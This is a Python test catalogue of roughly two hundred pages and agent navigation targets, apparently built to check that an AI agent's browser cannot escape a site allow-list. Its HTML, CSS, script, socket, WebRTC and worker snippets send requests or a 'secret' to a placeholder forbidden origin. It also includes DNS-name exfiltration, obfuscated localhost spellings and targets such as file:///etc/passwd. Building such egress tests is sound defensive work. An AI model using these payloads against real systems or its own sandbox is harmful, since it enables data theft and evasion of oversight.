"""Two hundred ways out of an allow-list, by kind. Each is a page of the site that may be visited.

In pages EVIL stands for the forbidden origin, HOST and PORT for its place, UDP for a port that counts datagrams, and
NAME for a host name of the attacker's, which leads to the same place.
"""

# ruff: noqa: E501 (pages stay as they are sent)

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

Page = str | tuple[int, dict[str, str], str]
SCRIPT = {"content-type": "text/javascript"}


@dataclass(frozen=True)
class Attack:
    """pages: paths of the allowed site, "/" is opened. click: at the page's top left corner. goto: the agent itself goes.

    plain: without rules it reaches out beside the proxy, so that its control needs a browser of its own.
    """

    kind: str
    name: str
    pages: dict[str, Page] = field(default_factory=dict)
    click: bool = False
    goto: str = ""
    plain: bool = False

    @property
    def id(self) -> str:
        return f"{self.kind}/{self.name}"


def catalogue() -> list[Attack]:
    """All of them."""
    found = [
        *_pages("element", ELEMENTS),
        *_pages("style", STYLES),
        *_pages("script", SCRIPTS, script=True),
        *_pages("socket", SOCKETS, script=True),
        *_workers(),
        *_pages("navigation", NAVIGATIONS, script=True),
        *_pages("click", CLICKS, click=True),
        *_pages("frame", FRAMES),
        *_headers(),
        *_addresses(),
        *_pages("datagram", DATAGRAMS, script=True, plain=True),
        *_pages("name", NAMES),
        *(Attack("agent", address, {"/": "start", "/hop": REDIRECT}, goto=address) for address in AGENT),
    ]
    assert len({attack.id for attack in found}) == len(found)
    return found


def _pages(
    kind: str, bodies: dict[str, str], script: bool = False, click: bool = False, plain: bool = False
) -> Iterator[Attack]:
    for name, body in bodies.items():
        page = f"<script>{body}</script>" if script else body
        yield Attack(kind, name, {"/": page, "/hop": REDIRECT}, click=click, plain=plain)


REDIRECT: Page = (302, {"location": "EVIL/hop"}, "")

ELEMENTS = {
    "img": "<img src='EVIL/'>",
    "img srcset": "<img srcset='EVIL/ 1x' sizes=100vw>",
    "picture": "<picture><source srcset='EVIL/'><img></picture>",
    "input image": "<input type=image src='EVIL/'>",
    "video": "<video src='EVIL/' preload=auto></video>",
    "poster": "<video poster='EVIL/'></video>",
    "audio": "<audio src='EVIL/' preload=auto></audio>",
    "source": "<video preload=auto><source src='EVIL/'></video>",
    "embed": "<embed src='EVIL/' type=text/html>",
    "object": "<object data='EVIL/' type=text/html></object>",
    "script": "<script src='EVIL/'></script>",
    "script async": "<script async src='EVIL/'></script>",
    "script module": "<script type=module src='EVIL/'></script>",
    "import map": '<script type=importmap>{"imports": {"x": "EVIL/"}}</script><script type=module>import \'x\'</script>',
    "stylesheet": "<link rel=stylesheet href='EVIL/'>",
    "alternate stylesheet": "<link rel='alternate stylesheet' title=x href='EVIL/'>",
    "preload image": "<link rel=preload as=image href='EVIL/'>",
    "preload script": "<link rel=preload as=script href='EVIL/'>",
    "preload style": "<link rel=preload as=style href='EVIL/'>",
    "preload font": "<link rel=preload as=font crossorigin href='EVIL/'>",
    "preload fetch": "<link rel=preload as=fetch crossorigin href='EVIL/'>",
    "module preload": "<link rel=modulepreload href='EVIL/'>",
    "prefetch": "<link rel=prefetch href='EVIL/'>",
    "svg image": "<svg><image href='EVIL/' width=10 height=10 /></svg>",
    "svg filter": "<svg><filter id=f><feImage href='EVIL/' /></filter><rect width=9 height=9 filter='url(#f)' /></svg>",
    "body background": "<body background='EVIL/'>x",
    "base": "<base href='EVIL/'><img src=x>",
    "redirected img": "<img src=/hop>",
    "redirected script": "<script src=/hop></script>",
    "redirected style": "<link rel=stylesheet href=/hop>",
}

STYLES = {
    "import": "<style>@import 'EVIL/';</style>",
    "import url": "<style>@import url(EVIL/) screen;</style>",
    "background": "<style>body { background: url(EVIL/) }</style>x",
    "attribute": "<p style='background-image: url(EVIL/)'>x",
    "list": "<style>li { list-style-image: url(EVIL/) }</style><li>x",
    "border": "<style>p { border: 9px solid; border-image: url(EVIL/) 9 }</style><p>x",
    "content": "<style>p::before { content: url(EVIL/) }</style><p>x",
    "mask": "<style>p { mask-image: url(EVIL/) }</style><p>x",
    "image set": "<style>p { background: image-set('EVIL/' 1x) }</style><p>x",
    "shape": "<style>p { float: left; shape-outside: url(EVIL/) }</style><p>x",
    "font": "<style>@font-face { font-family: f; src: url(EVIL/) } p { font-family: f }</style><p>x",
    "variable": "<style>:root { --u: url(EVIL/) } p { background: var(--u) }</style><p>x",
    "selector": "<style>input[value^=s] { background: url(EVIL/s) }</style><input value=secret>",
    "font face": "<script>new FontFace('f', 'url(EVIL/)').load()</script>",
}

SCRIPTS = {
    "fetch": "fetch('EVIL/', {mode: 'no-cors'})",
    "fetch cors": "fetch('EVIL/')",
    "fetch post": "fetch('EVIL/', {mode: 'no-cors', method: 'POST', body: 'secret'})",
    "fetch kept alive": "fetch('EVIL/', {mode: 'no-cors', keepalive: true})",
    "fetch put": "fetch('EVIL/', {method: 'PUT', headers: {'x-a': '1'}})",
    "fetch with credentials": "fetch('EVIL/', {credentials: 'include'})",
    "redirected fetch": "fetch('/hop', {mode: 'no-cors'})",
    "xhr": "x = new XMLHttpRequest(); x.open('GET', 'EVIL/'); x.send()",
    "xhr sync": "x = new XMLHttpRequest(); x.open('GET', 'EVIL/', false); try { x.send() } catch {}",
    "xhr upload": "x = new XMLHttpRequest(); x.upload.onprogress = () => 0; x.open('POST', 'EVIL/'); x.send('secret')",
    "beacon": "navigator.sendBeacon('EVIL/', 'secret')",
    "beacon on leaving": "addEventListener('pagehide', () => navigator.sendBeacon('EVIL/', 'x')); location = '/next'",
    "event source": "new EventSource('EVIL/')",
    "image": "new Image().src = 'EVIL/'",
    "audio": "new Audio('EVIL/').play()",
    "import": "import('EVIL/')",
    "written": "document.write(\"<img src='EVIL/'>\")",
    "inner html": "document.documentElement.innerHTML = \"<img src='EVIL/'>\"",
    "detached": "document.createElement('div').innerHTML = \"<img src='EVIL/'>\"",
    "shadow tree": "d = document.body || document.documentElement; e = document.createElement('p'); d.append(e);"
    "e.attachShadow({mode: 'closed'}).innerHTML = \"<img src='EVIL/'>\"",
    "stylesheet": "s = document.createElement('style'); s.textContent = \"@import 'EVIL/'\"; document.head.append(s)",
    "eval": "Function(\"fetch('EVIL/', {mode: 'no-cors'})\")()",
    "ping": "a = document.createElement('a'); a.href = '#x'; a.ping = 'EVIL/'; document.documentElement.append(a); a.click()",
    "cached": "caches.open('c').then(c => c.add('EVIL/'))",
}

SOCKETS = {
    "web socket": "new WebSocket('ws://HOST:PORT/')",
    "web socket, secure": "new WebSocket('wss://HOST:PORT/')",
    "web socket by http": "new WebSocket('EVIL/')",
    "web socket with protocol": "new WebSocket('ws://HOST:PORT/', ['secret'])",
    "web socket stream": "new WebSocketStream('ws://HOST:PORT/')",
    "web socket in a frame": "f = document.createElement('iframe');"
    "f.srcdoc = \"<script>new WebSocket('ws://HOST:PORT/')<\\/script>\"; document.documentElement.append(f)",
    "web socket in a blob": "f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["
    "\"<script>new WebSocket('ws://HOST:PORT/')<\\/script>\"], {type: 'text/html'})); document.documentElement.append(f)",
    "web socket, many": "for (let i = 0; i < 20; i++) new WebSocket('ws://HOST:PORT/' + i)",
    "web socket by name": "new WebSocket('ws://localhost:PORT/')",
}

# What a worker runs; each is tried in every kind of worker.
WORK = {
    "fetch": "fetch('EVIL/', {mode: 'no-cors'})",
    "import scripts": "importScripts('EVIL/')",
    "web socket": "new WebSocket('ws://HOST:PORT/')",
    "xhr": "x = new XMLHttpRequest(); x.open('GET', 'EVIL/', false); try { x.send() } catch {}",
    "event source": "new EventSource('EVIL/')",
}
WORKERS = {
    "worker": "new Worker('/w.js')",
    "blob worker": "fetch('/w.js').then(r => r.blob()).then(b => new Worker(URL.createObjectURL(b)))",
    "shared worker": "new SharedWorker('/w.js')",
}


def _workers() -> Iterator[Attack]:
    for how, start in WORKERS.items():
        for what, work in WORK.items():
            yield Attack("worker", f"{how}: {what}", {"/": f"<script>{start}</script>", "/w.js": (200, SCRIPT, work)})
    nested = {
        "module worker": ("new Worker('/w.js', {type: 'module'})", "import 'EVIL/'"),
        "worker's worker": ("new Worker('/w.js')", "new Worker('/w2.js')"),
        "service worker": (
            "navigator.serviceWorker.register('/w.js')",
            "oninstall = () => fetch('EVIL/', {mode: 'no-cors'})",
        ),
        "service worker's import": ("navigator.serviceWorker.register('/w.js')", "importScripts('EVIL/')"),
        "paint worklet": ("CSS.paintWorklet.addModule('EVIL/')", ""),
        "audio worklet": ("new AudioContext().audioWorklet.addModule('EVIL/')", ""),
    }
    for name, (start, work) in nested.items():
        pages: dict[str, Page] = {
            "/": f"<script>{start}</script>",
            "/w.js": (200, SCRIPT, work),
            "/w2.js": (200, SCRIPT, "fetch('EVIL/', {mode: 'no-cors'})"),
        }
        # Ours never runs service workers, so that only another browser shows what they would do.
        yield Attack("worker", name, pages, plain=name.startswith("service"))


NAVIGATIONS = {
    "location": "location = 'EVIL/'",
    "assign": "location.assign('EVIL/')",
    "replace": "setTimeout(() => location.replace('EVIL/'))",
    "port": "location.port = 'PORT'",
    "navigation api": "navigation.navigate('EVIL/')",
    "open": "open('EVIL/')",
    "open without opener": "open('EVIL/', '', 'noopener')",
    "open small": "open('EVIL/', 'w', 'popup,width=100,height=100')",
    "open, then go": "w = open('about:blank'); setTimeout(() => w.location = 'EVIL/')",
    "opener goes": "w = open('about:blank'); w.eval(\"opener.location = 'EVIL/'\")",
    "written window": "open('about:blank').document.write(\"<img src='EVIL/'>\")",
    "javascript address": "location = \"javascript:fetch('EVIL/', {mode: 'no-cors'})\"",
    "javascript window": "open(\"javascript:fetch('EVIL/', {mode: 'no-cors'})\")",
    "blob page": "location = URL.createObjectURL(new Blob([\"<img src='EVIL/'>\"], {type: 'text/html'}))",
    "blob window": "open(URL.createObjectURL(new Blob([\"<img src='EVIL/'>\"], {type: 'text/html'})))",
    "redirected": "location = '/hop'",
    "redirected window": "open('/hop')",
    "form": "f = document.createElement('form'); f.action = 'EVIL/'; document.documentElement.append(f); f.submit()",
    "form post": "f = document.createElement('form'); f.action = 'EVIL/'; f.method = 'post';"
    "document.documentElement.append(f); f.submit()",
    "form in a tab": "f = document.createElement('form'); f.action = 'EVIL/'; f.target = '_blank';"
    "document.documentElement.append(f); f.submit()",
    "form redirected": "f = document.createElement('form'); f.action = '/hop'; f.method = 'post';"
    "document.documentElement.append(f); f.submit()",
    "link clicked by script": "a = document.createElement('a'); a.href = 'EVIL/'; document.documentElement.append(a); a.click()",
    "download": "a = document.createElement('a'); a.href = 'EVIL/'; a.download = 'x'; document.documentElement.append(a);"
    "a.click()",
    "on leaving": "addEventListener('pagehide', () => fetch('EVIL/', {mode: 'no-cors', keepalive: true}));"
    "location = '/next'",
}

TOP = "style='position: absolute; left: 0; top: 0; width: 300px; height: 100px; display: block'"
CLICKS = {
    "link": f"<a {TOP} href='EVIL/'>x</a>",
    "link in a tab": f"<a {TOP} target=_blank href='EVIL/'>x</a>",
    "link to above": f"<a {TOP} href='//HOST:PORT/'>x</a>",
    "link with ping": f"<a {TOP} href='#x' ping='EVIL/'>x</a>",
    "map": f"<map name=m><area shape=default href='EVIL/'></map><img {TOP} usemap=#m src='data:,'>",
    "svg link": f"<svg {TOP}><a href='EVIL/'><rect width=300 height=100 /></a></svg>",
    "button": f"<form action=/next><button {TOP} formaction='EVIL/'>x</button></form>",
    "handler": f"<button {TOP} onclick=\"location = 'EVIL/'\">x</button>",
    "window": f"<button {TOP} onclick=\"window.open('EVIL/')\">x</button>",
    "on press": f"<button {TOP} onmousedown=\"fetch('EVIL/', {{mode: 'no-cors'}})\">x</button>",
    "on moving": f"<button {TOP} onmousemove=\"fetch('EVIL/', {{mode: 'no-cors'}})\">x</button>",
    "label": f"<label for=b {TOP}>x</label><form action='EVIL/'><input type=submit id=b></form>",
}

FRAMES = {
    "frame": "<iframe src='EVIL/'></iframe>",
    "frame set": "<frameset cols=*><frame src='EVIL/'></frameset>",
    "lazy frame": "<iframe loading=lazy src='EVIL/'></iframe>",
    "frame document": "<iframe srcdoc=\"<img src='EVIL/'>\"></iframe>",
    "frame in frame": "<iframe srcdoc=\"<iframe src='EVIL/'></iframe>\"></iframe>",
    "sandboxed": "<iframe sandbox='allow-scripts' srcdoc=\"<script>fetch('EVIL/', {mode: 'no-cors'})</script>\"></iframe>",
    "sandboxed form": "<iframe sandbox='allow-scripts allow-forms' srcdoc=\"<form action='EVIL/'></form><script>"
    'document.forms[0].submit()</script>"></iframe>',
    "frame goes up": "<iframe srcdoc=\"<script>top.location = 'EVIL/'</script>\"></iframe>",
    "sandboxed goes up": "<iframe sandbox='allow-scripts allow-top-navigation'"
    " srcdoc=\"<script>top.location = 'EVIL/'</script>\"></iframe>",
    "sandboxed window": "<iframe sandbox='allow-scripts allow-popups' srcdoc=\"<script>open('EVIL/')</script>\"></iframe>",
    "data frame": "<iframe src=\"data:text/html,<img src='EVIL/'>\"></iframe>",
    "credentialless": "<iframe credentialless src='EVIL/'></iframe>",
    "redirected frame": "<iframe src=/hop></iframe>",
    "refreshed frame": "<iframe srcdoc=\"<meta http-equiv=refresh content='0; url=EVIL/'>\"></iframe>",
    "form into a frame": "<iframe name=i></iframe><form action='EVIL/' target=i></form><script>document.forms[0].submit()</script>",
    "frame of an object": "<object type=text/html data=/hop></object>",
}


def _headers() -> Iterator[Attack]:
    body = "<p>x</p><img src='data:,'>"
    named: dict[str, Page] = {
        "refresh": (200, {"refresh": "0; url=EVIL/"}, body),
        "refresh of a page": "<meta http-equiv=refresh content='0; url=EVIL/'>",
        "link preload": (200, {"link": "<EVIL/>; rel=preload; as=image"}, body),
        "link stylesheet": (200, {"link": "<EVIL/>; rel=preload; as=style"}, body),
        "policy report": (
            200,
            {"content-security-policy": "img-src 'none'; report-uri EVIL/"},
            "<img src=/blocked>",
        ),
        "policy report only": (
            200,
            {"content-security-policy-report-only": "img-src 'none'; report-uri EVIL/"},
            "<img src=/blocked>",
        ),
        "policy of a page": "<meta http-equiv=content-security-policy content='upgrade-insecure-requests'><img src='EVIL/'>",
    }
    for name, page in named.items():
        yield Attack("header", name, {"/": page})
    for status in (301, 302, 303, 307, 308):
        yield Attack("header", f"status {status}", {"/": (status, {"location": "EVIL/"}, "")})


# The forbidden place in other words; all mean 127.0.0.1 or this machine to some reader.
SPELLINGS = [
    "http://127.1:PORT/",
    "http://127.0.1:PORT/",
    "http://2130706433:PORT/",
    "http://0x7f000001:PORT/",
    "http://0x7f.1:PORT/",
    "http://0177.0.0.1:PORT/",
    "http://017700000001:PORT/",
    "http://0:PORT/",
    "http://0.0.0.0:PORT/",
    "http://127.0.0.1.:PORT/",
    "http://localhost:PORT/",
    "http://LOCALHOST:PORT/",
    "http://localhost.:PORT/",
    "http://a.localhost:PORT/",
    "http://[::1]:PORT/",
    "http://[::]:PORT/",
    "http://[::ffff:127.0.0.1]:PORT/",
    "http://[::ffff:7f00:1]:PORT/",
    "http://127.0.0.2:PORT/",
    "http://127.255.255.254:PORT/",
    "http://GOOD@127.0.0.1:PORT/",
    "http://a:b@127.0.0.1:PORT/",
    "http:\\\\127.0.0.1:PORT/",
    "//127.0.0.1:PORT/",
    "http://１２７.０.０.１:PORT/",
    "http://127。0。0。1:PORT/",
    "http://ⓛocalhost:PORT/",
    "http://NAME:PORT/",
    "http://good.example.NAME:PORT/",
    "http://%31%32%37.0.0.1:PORT/",
    "HTTP://127.0.0.1:PORT/",
    "http:///127.0.0.1:PORT/",
    "https://127.0.0.1:PORT/",
    "https://NAME:PORT/",
]


def _addresses() -> Iterator[Attack]:
    for spelling in SPELLINGS:
        script = f"fetch(String.raw`{spelling}`, {{mode: 'no-cors', credentials: 'include'}}).catch(() => 0);"
        script += f"new Image().src = String.raw`{spelling}`"
        if "@" in spelling:  # which only pages may have
            script = f"location = `{spelling}`"
        yield Attack("address", spelling, {"/": f"<script>{script}</script>"})


PEER = "p = new RTCPeerConnection({iceServers: [SERVER]}); p.createDataChannel('x');"
PEER += "p.createOffer().then(o => p.setLocalDescription(o));"
LOGIN = "username: 'a', credential: 'b'"
CANDIDATE = "candidate:1 1 udp 2130706431 127.0.0.1 UDP typ host"
REMOTE = """p = new RTCPeerConnection(); q = new RTCPeerConnection(); p.createDataChannel('x');
  p.createOffer().then(o => p.setLocalDescription(o)).then(() => q.setRemoteDescription(p.localDescription))
  .then(() => q.createAnswer()).then(a => q.setLocalDescription(a)).then(() => p.setRemoteDescription(q.localDescription))
  .then(() => p.addIceCandidate({candidate: 'CANDIDATE', sdpMid: '0', sdpMLineIndex: 0}));""".replace(
    "CANDIDATE", CANDIDATE
)
DATAGRAMS = {
    "stun": PEER.replace("SERVER", "{urls: 'stun:127.0.0.1:UDP'}"),
    "stun by name": PEER.replace("SERVER", "{urls: 'stun:localhost:UDP'}"),
    "turn": PEER.replace("SERVER", f"{{urls: 'turn:127.0.0.1:UDP?transport=udp', {LOGIN}}}"),
    "turn over tcp": PEER.replace("SERVER", f"{{urls: 'turn:127.0.0.1:PORT?transport=tcp', {LOGIN}}}"),
    "turn over tls": PEER.replace("SERVER", f"{{urls: 'turns:127.0.0.1:PORT?transport=tcp', {LOGIN}}}"),
    "remote candidate": REMOTE,
    "stun in a frame": "f = document.createElement('iframe'); f.srcdoc = `<script>"
    + PEER.replace("SERVER", "{urls: 'stun:127.0.0.1:UDP'}")
    + "<\\/script>`; document.documentElement.append(f)",
    "web transport": "new WebTransport('https://127.0.0.1:UDP/').ready.catch(() => 0)",
    "web transport with a hash": "new WebTransport('https://127.0.0.1:UDP/', {serverCertificateHashes: [{algorithm:"
    " 'sha-256', value: new Uint8Array(32)}]}).ready.catch(() => 0)",
    "web transport in a worker": "new Worker(URL.createObjectURL(new Blob(["
    "\"new WebTransport('https://127.0.0.1:UDP/').ready.catch(() => 0)\"])))",
}

# A name alone can carry a secret to whoever answers for it.
NAMES = {
    "prefetch of a name": "<link rel=dns-prefetch href='//secret.NAME'><img src='http://secret.NAME:PORT/'>",
    "preconnect": "<link rel=preconnect href='http://secret.NAME:PORT'><img src='http://secret.NAME:PORT/'>",
    "image": "<img src='http://secret.NAME:PORT/'>",
    "fetch": "<script>fetch('http://secret.NAME:PORT/', {mode: 'no-cors'})</script>",
    "web socket": "<script>new WebSocket('ws://secret.NAME:PORT/')</script>",
    "location": "<script>location = 'http://secret.NAME:PORT/'</script>",
    "frame": "<iframe src='http://secret.NAME:PORT/'></iframe>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('http://secret.NAME:PORT/',"
    " {mode: 'no-cors'})\"])))</script>",
}

AGENT = [
    "EVIL/",
    "127.0.0.1:PORT",
    "http://localhost:PORT/",
    "http://good.example@127.0.0.1:PORT/",
    "http://2130706433:PORT/",
    "http://[::ffff:127.0.0.1]:PORT/",
    "http://NAME:PORT/",
    "https://127.0.0.1:PORT/",
    "ws://127.0.0.1:PORT/",
    "view-source:EVIL/",
    "data:text/html,<img/src='EVIL/'>",
    "javascript:fetch('EVIL/')",
    "blob:EVIL/0",
    "filesystem:EVIL/temporary/a",
    "file:///etc/passwd",
    "chrome://version",
    "about:memory",
    "ftp://127.0.0.1:PORT/",
    "GOOD/hop",
    "GOOD\\@127.0.0.1:PORT/",
]
